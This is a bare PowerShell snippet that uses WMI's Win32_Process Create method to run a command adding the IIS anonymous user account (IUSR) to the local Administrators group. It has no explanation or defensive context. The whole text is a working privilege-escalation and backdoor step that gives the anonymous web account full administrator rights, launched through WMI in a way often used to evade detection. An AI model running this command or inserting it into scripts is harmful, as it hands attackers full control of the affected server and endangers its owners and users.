$c = [wmiclass]'\\.\root\cimv2:Win32_Process'
$p = $c.psbase.GetMethodParameters('Create')
$p['CommandLine'] = 'net localgroup Administrators IUSR /add'
$c.psbase.InvokeMethod('Create', $p, $null)
